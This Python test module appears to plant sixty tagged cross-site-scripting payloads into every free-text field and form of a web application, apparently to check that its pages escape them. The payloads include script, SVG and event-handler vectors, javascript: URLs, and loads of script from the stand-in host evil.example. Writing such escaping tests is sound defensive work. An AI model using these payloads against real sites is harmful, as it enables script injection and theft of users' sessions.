"""S4: sixty texts that want to be more than text, and a city into whose every field they were written."""

import re
from collections.abc import Iterator
from dataclasses import replace
from itertools import cycle
from pathlib import Path

import httpx

from app.access import SYSTEM, Role
from app.clock import now
from events.planning.queries import event_facts
from events.running.room import record_commitment
from questions.commitments.due import Due
from questions.commitments.recording import Promise
from questions.commitments.states import DueWording
from tests.site.doors import DOORS, Door
from tests.site.people import account_of
from tests.site.places import KY8, KY9, Places, places_of
from tests.site.site import Site
from tests.support import Stage, an_ask, make_event, make_field, make_person, make_question, make_unit

_BODIES = (
    *("<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>"),
    *("<script src=//evil.example/x.js></script>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>"),
    *("<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>"),
    *("<img/src=x/onerror=alert(1)>", "<image src=x onerror=alert(1)>", '<img src="x:x" onerror="alert(1)"'),
    *("<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>"),
    *("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x"),
    *("<svg><set attributeName=onmouseover to=alert(1)>", "<svg><foreignObject><body onload=alert(1)>"),
    *("<math><mi xlink:href=javascript:alert(1)>x", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>"),
    *(
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)>",
        "<embed src=data:text/html,x>",
    ),
    *("<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>"),
    *("<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>"),
    *("<p style=background:url(javascript:alert(1))>", "<div style=width:expression(alert(1))>"),
    *(
        '" onmouseover="alert(1)',
        "' onfocus='alert(1)' autofocus='",
        "` onclick=alert(1) `",
        '" autofocus onfocus=alert(1) x="',
    ),
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)//", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"),
    *(
        "<a href=javascript:alert(1)>x</a>",
        "<a href='java&#115;cript:alert(1)'>x</a>",
        "<form action=javascript:alert(1)>",
    ),
    *(
        "<button formaction=javascript:alert(1)>x",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
    ),
    *("<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>"),
    *(
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</option></select><svg onload=alert(1)>",
    ),
    *("--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->"),
    *(
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
    ),
    *("{{ 7*7 }}{% raw %}${7*7}", "{{constructor.constructor('alert(1)')()}}", "%3Cscript%3Ealert(1)%3C/script%3E"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "＜script＞alert(1)＜/script＞"),
    *(
        '<div hx-get="/sign-out" hx-trigger="load">',
        "<div data-confirm='x' hx-on:load='alert(1)'>",
        "\\x3cscript\\x3ealert(1)",
    ),
)
# Each says which it is, so that one can be told from another wherever it turns up.
PAYLOADS = tuple(f"{body.replace('alert(1)', f'alert({n})')} xss{n:02}x" for n, body in enumerate(_BODIES, 1))
MARK = re.compile(r"xss(\d\d)x")
ALL = "\n".join(PAYLOADS)
# Every field that our forms read as free text, as the code names them; places in names stand for ids.
READ = re.compile(r"\.(?:line|text)\(\s*f?\"([a-z_0-9{}]+)\"")
# What must have a form of its own to be taken at all; sent too, then mended.
FORMED = frozenset(
    ("phone", "email", "tax_code", "code", "colour", "online_url", "seen", "promise_question", "question")
)
# The hand that must not slip: acts after which the city would have nobody to look at it.
LEFT_ALONE = (
    "/sign-out",
    "/sign-out-everywhere",
    "/deactivate",
    "/successor",
    "/second-factor",
    "/revert",
    "/remove",
    "/end",
    "/roles/{membership_id:int}/end",
)


def text_fields() -> set[str]:
    root = Path(__file__).parents[2]
    code = [
        path.read_text()
        for package in ("app", "events", "questions", "exports")
        for path in (root / package).rglob("*.py")
    ]
    return {name for text in code for name in READ.findall(text)}


def short(most: int) -> Iterator[str]:
    """Texts of at most `most` characters, as many of the sixty in each as go in, for ever."""
    pieces: list[str] = [""]
    for payload in PAYLOADS:
        if len(payload) > most:
            continue
        if pieces[-1] and len(pieces[-1]) + len(payload) < most:
            pieces[-1] += f" {payload}"
        else:
            pieces.append(payload)
    return cycle(pieces[1:])


async def plant(site: Site) -> tuple[Places, list[str], list[httpx.Response]]:
    """Write the sixty into every field through acts and forms.

    Gives the places of the city, addresses that were added, and what the forms answered.
    """
    places = await places_of(site)
    added = [*await _made_by_acts(places)]
    answers = [answer for door in DOORS if door.method == "POST" for answer in await _sent_to(site, door, places)]
    return places, added, answers


async def _made_by_acts(places: Places) -> list[str]:
    """People, forums, questions with published answers and promises in whose texts all sixty stand."""
    names, lines, people = short(200), short(300), short(100)
    at, paths = now().replace(microsecond=0), []
    unit = await make_unit(next(names), at=at)
    for _number in range(60):
        person = await make_person(unit, Role.FOCAL, name=next(people), at=at)
        assert person.person_id
        paths.append(f"/office/people/{person.person_id}")
    for _number in range(12):
        facts = await make_event(places.units["TTXT"], title=next(lines), theme=next(lines), place=next(lines), at=at)
        paths += [f"/events/{facts.slug}", f"/events/{facts.slug}/calendar.ics", f"/desk/events/{facts.slug}"]
    event = await event_facts(KY9)
    for number in range(12):
        ask = replace(
            an_ask(next(lines), ALL, at=at),
            name=next(names),
            address=next(lines),
            consents={"publish_name": number % 2 == 0},
        )
        question = await make_question(
            event, Stage.PUBLISHED, lead_unit_id=unit, ask=ask, answer=ALL, answer_summary=next(lines), at=at
        )
        paths += [f"/questions/{question.code}", f"/desk/questions/{question.code}"]
        waiting = await make_question(event, Stage.SUBMITTED, ask=ask, at=at)
        paths.append(f"/desk/questions/{waiting.code}")
        await make_field(next(names), unit)
    for _number in range(6):
        promise = Promise(
            words=ALL[:1500], promised_by=next(names), owner_id=places.units["STC"], product=next(names),
            due=Due(DueWording.WITHIN, days=10),
        )  # fmt: skip
        code = await record_commitment(await event_facts(KY8), promise, question=None, happened_at=at, by=SYSTEM, at=at)
        paths += [f"/commitments/{code}", f"/desk/commitments/{code}"]
    return [*paths, f"/desk/events/{KY9}/questions/csv", f"/desk/events/{KY9}/questions/xlsx"]


_NEXT = short(100)
_FIELDS = sorted(name for name in text_fields() if "{" not in name)


async def _sent_to(site: Site, door: Door, places: Places) -> list[httpx.Response]:
    """The form with hostile text in each field of the code, then in those that may hold any text, until it is taken."""
    if not door.opens or door.route.endswith(LEFT_ALONE):
        return []
    site.forget_limits()
    sent, answers = dict(door.sent(places)), []
    hostile = {name: next(_NEXT) for name in [*_FIELDS, *(n for n in sent if n.startswith("attendee_"))]}
    free = {name: value for name, value in hostile.items() if name not in FORMED}
    tries = (sent | hostile, sent | free, free | sent, sent | {name: free[name] for name in sent if name in free})
    async with site.visitor(account_of(min(door.opens), door.lead)) as visitor:
        for fields in tries:
            answers.append(await visitor.act(door.address(places), fields))
            assert answers[-1].status_code < 500, (door.route, answers[-1].text[:300])
            if answers[-1].status_code in {200, 303}:
                break
    return answers


def looked_at(places: Places, added: list[str]) -> list[tuple[str, str]]:
    """(account, address) of every page of the table of doors, and of what was added."""
    doors = [door for door in DOORS if door.method == "GET" and door.opens]
    found = {(account_of(min(door.opens), door.lead), door.address(places)) for door in doors}
    ours = {"/office": "quantri", "/desk/": "dieuphoi"}
    return sorted(
        found | {(ours.get(address[:7].rstrip("s"), ours.get(address[:6], "")), address) for address in added}
    )
